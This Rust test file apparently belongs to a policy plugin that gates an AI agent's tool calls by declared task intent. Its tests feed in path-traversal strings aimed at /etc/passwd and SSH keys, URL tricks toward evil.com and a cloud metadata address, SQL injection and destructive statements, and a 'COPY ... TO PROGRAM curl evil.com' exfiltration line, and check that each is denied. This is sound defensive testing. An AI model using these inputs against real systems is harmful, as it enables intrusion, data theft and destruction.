//! Policy tests through `arbiter_guest::testing`, mostly on `example-settings.json`.

use super::*;
use arbiter_guest::log::Level;
use arbiter_guest::testing::{ActionBuilder, run, settings, take_logs};

fn example() -> Value {
    arbiter_guest::serde_json::from_str(include_str!("../example-settings.json")).unwrap()
}

fn call(intent: &str, server: &str, name: &str, args: Value) -> Verdict {
    let action = ActionBuilder::new()
        .task("task-1", intent)
        .tool(server, name)
        .arguments(args)
        .build();
    run::<Intent>(example(), &action).unwrap()
}

fn assert_allow(v: &Verdict) {
    assert_eq!(v.effect, Effect::Allow, "{}", v.reason);
}

fn assert_deny(v: &Verdict, needle: &str) {
    assert_eq!(v.effect, Effect::Deny, "{}", v.reason);
    assert!(
        v.reason.contains(needle),
        "reason {:?} should contain {needle:?}",
        v.reason
    );
}

// ---------- describe and settings ----------

#[test]
fn describe_names_the_plugin() {
    let info = Intent::describe();
    assert_eq!(
        (
            info.name.as_str(),
            info.version.as_str(),
            info.kind.as_str()
        ),
        ("intent", "0.1.0", "intent")
    );
}

#[test]
fn example_settings_load() {
    let s = settings::<Intent>(example()).unwrap();
    assert_eq!(s.intents.len(), 4);
    assert_eq!(s.intents["summarize-repo"].rules.len(), 5);
}

#[test]
fn bad_settings_are_refused_with_the_field() {
    let err = |v: Value| settings::<Intent>(v).unwrap_err();
    assert!(err(json!({})).contains("intents"));
    assert!(err(json!({"intents": {}, "extra": 1})).contains("extra"));
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "fs/read_file", "colour": 1}]}}}))
            .contains("colour")
    );
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "read_file"}]}}})).contains("server/name")
    );
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "fs/re*ad"}]}}}))
            .contains("not at the end")
    );
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "fs/x", "effect": "maybe"}]}}}))
            .contains("maybe")
    );
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "fs/x", "approver": "ops"}]}}}))
            .contains("step-up")
    );
    let e = err(
        json!({"intents": {"a": {"tools": [{"tool": "fs/x", "path": {"argument": "/p", "roots": ["rel"]}}]}}}),
    );
    assert!(
        e.contains("intents.a.tools[0]") && e.contains("absolute"),
        "{e}"
    );
    assert!(err(json!({"intents": {"a": {"tools": [{"tool": "fs/x", "path": {"argument": "p", "roots": ["/r"]}}]}}})).contains("JSON pointer"));
    assert!(err(json!({"intents": {"a": {"tools": [{"tool": "w/f", "url": {"argument": "/u", "hosts": []}}]}}})).contains("at least one host"));
    assert!(err(json!({"intents": {"a": {"tools": [{"tool": "w/f", "url": {"argument": "/u", "hosts": ["https://x.com/"]}}]}}})).contains("no scheme"));
    assert!(err(json!({"intents": {"a": {"tools": [{"tool": "d/q", "sql": {"argument": "/s", "dialect": "oracle"}}]}}})).contains("oracle"));
    assert!(
        err(json!({"intents": {"a": {"tools": [{"tool": "d/q", "sql": "SELECT"}]}}}))
            .contains("`sql` must be an object")
    );
    assert!(err(json!({"intents": {"a": {"tools": [{"tool": "m/s", "email": {"argument": "/to", "domains": ["10.0.0.1"]}}]}}})).contains("not IP"));
}

// ---------- intent and tool matching ----------

#[test]
fn tool_in_intent_is_allowed_naming_the_rule() {
    take_logs();
    let v = call(
        "summarize-repo",
        "github",
        "get_issue",
        json!({"number": 7}),
    );
    assert_allow(&v);
    assert_eq!(
        v.reason,
        "tool `github/get_issue` fits intent `summarize-repo` (rule `github-read`)"
    );
    let logs = take_logs();
    assert!(
        logs.iter()
            .any(|(l, m)| *l == Level::Debug && m.contains("rule `github-read` matched")),
        "{logs:?}"
    );
}

#[test]
fn rule_without_id_is_named_by_its_pattern() {
    let v = call(
        "triage-issue",
        "github",
        "search_code",
        json!({"q": "panic"}),
    );
    assert_allow(&v);
    assert!(
        v.reason.contains("(rule `github/search_code`)"),
        "{}",
        v.reason
    );
}

#[test]
fn tool_outside_intent_is_denied_naming_tool_and_intent() {
    let v = call(
        "summarize-repo",
        "fs",
        "write_file",
        json!({"path": "/repo/x"}),
    );
    assert_eq!(v.effect, Effect::Deny);
    assert_eq!(
        v.reason,
        "tool `fs/write_file` is not allowed for intent `summarize-repo`"
    );
    assert_deny(
        &call("triage-issue", "github", "merge_pull_request", json!({})),
        "`github/merge_pull_request`",
    );
    assert_deny(
        &call(
            "summarize-repo",
            "mail",
            "send_email",
            json!({"to": "a@example.com"}),
        ),
        "intent `summarize-repo`",
    );
}

#[test]
fn unknown_intent_is_denied() {
    let v = call("exfiltrate", "github", "get_issue", json!({}));
    assert_eq!(
        v.reason,
        "tool `github/get_issue` is denied: intent `exfiltrate` is not configured"
    );
    assert_eq!(v.effect, Effect::Deny);
}

#[test]
fn missing_task_or_empty_intent_is_denied() {
    let no_task = ActionBuilder::new()
        .no_task()
        .tool("github", "get_issue")
        .build();
    let v = run::<Intent>(example(), &no_task).unwrap();
    assert_deny(&v, "`github/get_issue` is denied: the action has no task");
    let empty = ActionBuilder::new()
        .task("t-9", "")
        .tool("github", "get_issue")
        .build();
    assert_deny(
        &run::<Intent>(example(), &empty).unwrap(),
        "task `t-9` declares no intent",
    );
}

#[test]
fn tool_names_match_exactly() {
    // Case, lookalike letters and other servers do not match.
    assert_deny(
        &call("triage-issue", "github", "Get_Issue", json!({})),
        "not allowed",
    );
    assert_deny(
        &call("triage-issue", "github", "get_issu\u{0435}", json!({})),
        "not allowed",
    );
    assert_deny(
        &call("triage-issue", "GitHub", "get_issue", json!({})),
        "not allowed",
    );
    assert_deny(
        &call("triage-issue", "evil", "get_issue", json!({})),
        "`evil/get_issue`",
    );
    // Intent names are exact too.
    assert_deny(
        &call("Triage-Issue", "github", "get_issue", json!({})),
        "not configured",
    );
    // The prefix pattern covers get_* only on its server.
    assert_allow(&call(
        "summarize-repo",
        "github",
        "get_pull_request",
        json!({}),
    ));
    assert_deny(
        &call("summarize-repo", "gitlab", "get_issue", json!({})),
        "not allowed",
    );
}

#[test]
fn step_up_rule_asks_for_approval() {
    let v = call(
        "answer-billing-question",
        "payments",
        "create_refund",
        json!({"amount": 50}),
    );
    assert_eq!(v.effect, Effect::StepUp, "{}", v.reason);
    assert!(v.reason.contains("rule `refund-needs-approval`") && v.reason.contains("step-up"));
    assert_eq!(
        v.obligations,
        vec![Obligation::require_approval("billing-supervisors")]
    );
    // The same tool under another intent is simply denied.
    assert_deny(
        &call("send-report", "payments", "create_refund", json!({})),
        "not allowed for intent `send-report`",
    );
}

#[test]
fn first_passing_rule_decides_and_failures_name_the_first_rule() {
    let s = json!({"intents": {"ops": {"tools": [
        {"tool": "fs/read_file", "id": "repo", "path": {"argument": "/path", "roots": ["/repo"]}},
        {"tool": "fs/read_file", "id": "logs", "effect": "step-up", "path": {"argument": "/path", "roots": ["/var/log"]}}
    ]}}});
    let act = |p: &str| {
        ActionBuilder::new()
            .task("t", "ops")
            .tool("fs", "read_file")
            .arguments(json!({"path": p}))
            .build()
    };
    assert_eq!(
        run::<Intent>(s.clone(), &act("/repo/a")).unwrap().effect,
        Effect::Allow
    );
    let v = run::<Intent>(s.clone(), &act("/var/log/syslog")).unwrap();
    assert_eq!(v.effect, Effect::StepUp);
    assert!(v.reason.contains("rule `logs`"));
    let v = run::<Intent>(s, &act("/etc/shadow")).unwrap();
    assert_deny(&v, "by rule `repo`");
}

// ---------- path constraints ----------

#[test]
fn paths_under_root_are_allowed() {
    assert_allow(&call(
        "summarize-repo",
        "fs",
        "read_file",
        json!({"path": "/repo/src/main.rs"}),
    ));
    assert_allow(&call(
        "summarize-repo",
        "fs",
        "read_file",
        json!({"path": "/repo//src/./main.rs"}),
    ));
    assert_allow(&call(
        "summarize-repo",
        "fs",
        "read_file",
        json!({"path": "src/main.rs"}),
    ));
    assert_allow(&call(
        "summarize-repo",
        "fs",
        "list_dir",
        json!({"path": "/repo"}),
    ));
}

#[test]
fn path_traversal_tricks_are_denied() {
    for p in [
        "/etc/passwd",
        "/repo/../etc/passwd",
        "/repo/src/../../etc/passwd",
        "../etc/passwd",
        "/repo/%2e%2e/etc/passwd",
        "/repo/%2E%2E%2Fetc%2Fpasswd",
        "/repo/%252e%252e/etc/passwd",
        "/repo/%25252e%25252e/etc/passwd",
        "/repo\\..\\etc\\passwd",
        "/repo/..%5c..%5cetc/passwd",
        "/repo/%c0%ae%c0%ae/etc/passwd",
        "/repo/\u{FF0E}\u{FF0E}/etc",
        "/repository/secret",
        "C:\\Windows\\system.ini",
        "file:///etc/passwd",
        "~/.ssh/id_rsa",
        "/repo/.. /etc",
    ] {
        let v = call("summarize-repo", "fs", "read_file", json!({ "path": p }));
        assert_eq!(v.effect, Effect::Deny, "{p} should be denied: {}", v.reason);
        assert!(v.reason.contains("argument `/path`"), "{}", v.reason);
        assert!(v.reason.contains("intent `summarize-repo`"), "{}", v.reason);
    }
}

#[test]
fn path_reason_shows_the_resolved_path() {
    let v = call(
        "summarize-repo",
        "fs",
        "read_file",
        json!({"path": "/repo/%2e%2e/etc/passwd"}),
    );
    assert_eq!(
        v.reason,
        "tool `fs/read_file` is denied for intent `summarize-repo` by rule `fs/read_file`: argument `/path` path `/repo/%2e%2e/etc/passwd` resolves to `/etc/passwd` after 1 round(s) of percent-decoding, outside the allowed roots `/repo`"
    );
}

#[test]
fn nul_bytes_in_paths_are_denied() {
    assert_deny(
        &call(
            "summarize-repo",
            "fs",
            "read_file",
            json!({"path": "/repo/a.txt\u{0}.png"}),
        ),
        "NUL",
    );
    assert_deny(
        &call(
            "summarize-repo",
            "fs",
            "read_file",
            json!({"path": "/repo/a.txt%00.png"}),
        ),
        "NUL",
    );
}

#[test]
fn relative_paths_without_base_are_denied() {
    let s = json!({"intents": {"i": {"tools": [{"tool": "fs/read_file", "path": {"argument": "/path", "roots": ["/repo"]}}]}}});
    let a = ActionBuilder::new()
        .task("t", "i")
        .tool("fs", "read_file")
        .arguments(json!({"path": "src/lib.rs"}))
        .build();
    assert_deny(
        &run::<Intent>(s, &a).unwrap(),
        "relative paths are not allowed",
    );
}

// ---------- missing and mistyped arguments ----------

#[test]
fn missing_or_mistyped_arguments_are_denied_naming_them() {
    assert_deny(
        &call("summarize-repo", "fs", "read_file", json!({})),
        "required argument `/path` is missing",
    );
    assert_deny(
        &call("summarize-repo", "fs", "read_file", json!({"path": null})),
        "required argument `/path` is missing",
    );
    assert_deny(
        &call(
            "summarize-repo",
            "fs",
            "read_file",
            json!({"path": ["/repo/a"]}),
        ),
        "argument `/path` must be a string, not an array",
    );
    assert_deny(
        &call("summarize-repo", "web", "fetch", json!({"url": 42})),
        "argument `/url` must be a string, not a number",
    );
    assert_deny(
        &call(
            "answer-billing-question",
            "db",
            "query",
            json!({"query": "SELECT 1"}),
        ),
        "required argument `/sql` is missing",
    );
    assert_deny(
        &call("send-report", "mail", "send_email", json!({"to": {"a": 1}})),
        "argument `/to` must be a string or an array",
    );
    assert_deny(
        &call("send-report", "mail", "send_email", json!({"to": []})),
        "empty list",
    );
    // Arguments that are not an object at all.
    assert_deny(
        &call("summarize-repo", "fs", "read_file", json!("/repo/a")),
        "required argument `/path` is missing",
    );
}

#[test]
fn optional_constraints_may_be_absent_but_not_wrong() {
    assert_allow(&call(
        "send-report",
        "mail",
        "send_email",
        json!({"to": "ops@example.com"}),
    ));
    assert_deny(
        &call(
            "send-report",
            "mail",
            "send_email",
            json!({"to": "ops@example.com", "cc": "x@evil.com"}),
        ),
        "argument `/cc`",
    );
    assert_deny(
        &call(
            "send-report",
            "mail",
            "send_email",
            json!({"to": "ops@example.com", "bcc": ["a@eu.example.com", "x@evil.com"]}),
        ),
        "`evil.com`",
    );
    assert_allow(&call(
        "send-report",
        "mail",
        "send_email",
        json!({"to": ["a@example.com", "b@eu.example.com"]}),
    ));
}

// ---------- URL constraints ----------

#[test]
fn urls_to_allowed_hosts_pass() {
    for u in [
        "https://docs.rs/serde/latest/serde/",
        "https://DOCS.RS./serde",
        "https://docs%2Ers/serde",
        "https://tokio.readthedocs.io/en/latest/",
        "https://doc.rust-lang.org:443/std/",
    ] {
        assert_allow(&call("summarize-repo", "web", "fetch", json!({ "url": u })));
    }
}

#[test]
fn url_host_tricks_are_denied() {
    for (u, why) in [
        ("https://docs.rs@evil.com/", "host `evil.com`"),
        ("https://docs.rs.evil.com/", "host `docs.rs.evil.com`"),
        ("https://evil.com/?u=https://docs.rs/", "host `evil.com`"),
        ("https://evil.com#@docs.rs", "host `evil.com`"),
        ("https://evil.com\\@docs.rs/", "backslash"),
        ("https://user:secret@docs.rs/", "userinfo"),
        ("https://a@b@docs.rs/", "more than one `@`"),
        ("https://readthedocs.io/", "host `readthedocs.io`"),
        ("https://d\u{043E}cs.rs/", "host `xn--dcs-sed.rs`"),
        ("http://docs.rs/", "scheme `http`"),
        ("https://0x7f.1/", "host `127.0.0.1`"),
        ("https://2130706433/", "host `127.0.0.1`"),
        (
            "https://169.254.169.254/latest/meta-data/",
            "host `169.254.169.254`",
        ),
        ("//docs.rs/x", "not an absolute URL"),
        ("https://docs.rs\n.evil.com/", "whitespace"),
    ] {
        let v = call("summarize-repo", "web", "fetch", json!({ "url": u }));
        assert_deny(&v, why);
        assert!(v.reason.contains("rule `docs-fetch`"));
    }
}

#[test]
fn url_ports_can_be_restricted() {
    let s = json!({"intents": {"i": {"tools": [{"tool": "web/fetch", "url": {"argument": "/url", "hosts": ["api.example.com"], "ports": [443]}}]}}});
    let act = |u: &str| {
        ActionBuilder::new()
            .task("t", "i")
            .tool("web", "fetch")
            .arguments(json!({"url": u}))
            .build()
    };
    assert_eq!(
        run::<Intent>(s.clone(), &act("https://api.example.com/v1"))
            .unwrap()
            .effect,
        Effect::Allow
    );
    assert_deny(
        &run::<Intent>(s, &act("https://api.example.com:8443/v1")).unwrap(),
        "port `8443`",
    );
}

// ---------- SQL constraints ----------

#[test]
fn read_only_sql_passes() {
    for q in [
        "SELECT amount, status FROM invoices WHERE customer_id = $1",
        "WITH recent AS (SELECT * FROM invoices WHERE created_at > now() - interval '30 days') SELECT count(*) FROM recent;",
        "EXPLAIN SELECT * FROM invoices",
        "SHOW search_path",
        "select $q$it's fine; really$q$ as note",
    ] {
        assert_allow(&call(
            "answer-billing-question",
            "db",
            "query",
            json!({ "sql": q }),
        ));
    }
}

#[test]
fn writing_sql_is_denied() {
    for (q, why) in [
        ("DELETE FROM invoices", "`DELETE` statement"),
        ("INSERT INTO refunds VALUES (1)", "`INSERT` statement"),
        ("UPDATE invoices SET status = 'paid'", "`UPDATE` statement"),
        ("DROP TABLE invoices", "`DROP` statement"),
        ("ALTER TABLE invoices ADD x int", "`ALTER` statement"),
        ("CREATE TABLE x (a int)", "`CREATE` statement"),
        ("GRANT ALL ON invoices TO agent", "`GRANT` statement"),
        ("TRUNCATE invoices", "`TRUNCATE` statement"),
        (
            "COPY invoices TO PROGRAM 'curl evil.com'",
            "`COPY` statement",
        ),
        ("CALL refund_all()", "`CALL` statement"),
        ("SELECT * INTO stolen FROM invoices", "`INTO`"),
        (
            "WITH gone AS (DELETE FROM invoices RETURNING *) SELECT * FROM gone",
            "`DELETE`",
        ),
        ("SELECT 1; DROP TABLE invoices", "more than one statement"),
        (
            "SELECT 1; -- harmless\nDELETE FROM invoices",
            "more than one statement",
        ),
        (
            "SELECT 1 /* */; DELETE FROM invoices",
            "more than one statement",
        ),
        ("SELECT 'x\\'; DELETE FROM invoices; --'", "backslash"),
        ("DEL/**/ETE FROM invoices", "`DEL` statement"),
        ("/*! DELETE FROM invoices */ SELECT 1", "executable comment"),
        (
            "SELECT $a$ x $b$; DELETE FROM invoices",
            "unterminated dollar",
        ),
        ("EXPLAIN ANALYZE DELETE FROM invoices", "`DELETE`"),
        ("SELECT nextval('refund_seq')", "`nextval`"),
        ("SELECT * FROM invoices FOR UPDATE", "`UPDATE`"),
        ("select pg_sleep(10)", "`pg_sleep`"),
    ] {
        let v = call(
            "answer-billing-question",
            "db",
            "query",
            json!({ "sql": q }),
        );
        assert_deny(&v, why);
        assert!(
            v.reason.contains("rule `billing-read-only`"),
            "{}",
            v.reason
        );
    }
}

// ---------- reasons ----------

#[test]
fn reasons_are_bounded_and_quote_safe() {
    let long = format!("/etc/{}`\n", "x".repeat(5000));
    let v = call("summarize-repo", "fs", "read_file", json!({ "path": long }));
    assert_eq!(v.effect, Effect::Deny);
    assert!(v.reason.len() < 1024, "{}", v.reason.len());
    assert!(!v.reason.contains('\n'));
    assert_eq!(v.reason.matches('`').count() % 2, 0, "{}", v.reason);
    let long_tool = "t".repeat(3000);
    let v = call(&"i".repeat(3000), "fs", &long_tool, json!({}));
    assert!(v.reason.len() <= 1024);
    assert_eq!(v.effect, Effect::Deny);
}

// ---------- listing previews (the MCP gateway's tools/list filter) ----------

fn listing(intent: &str, server: &str, name: &str) -> Verdict {
    let action = ActionBuilder::new()
        .task("task-1", intent)
        .tool(server, name)
        .env(arbiter_guest::PHASE_KEY, arbiter_guest::PHASE_LIST)
        .build();
    run::<Intent>(example(), &action).unwrap()
}

#[test]
fn a_listing_preview_judges_the_tool_not_its_missing_arguments() {
    // The same empty arguments on a real call fail the path rule.
    assert_deny(
        &call("summarize-repo", "fs", "read_file", json!({})),
        "/path",
    );
    assert_allow(&listing("summarize-repo", "fs", "read_file"));
    assert_deny(
        &listing("summarize-repo", "fs", "delete_file"),
        "not allowed for intent",
    );
    // Step-up rules stay step-up: the tool is listed, its call will ask for approval.
    assert_eq!(
        listing("answer-billing-question", "payments", "create_refund").effect,
        Effect::StepUp
    );
}
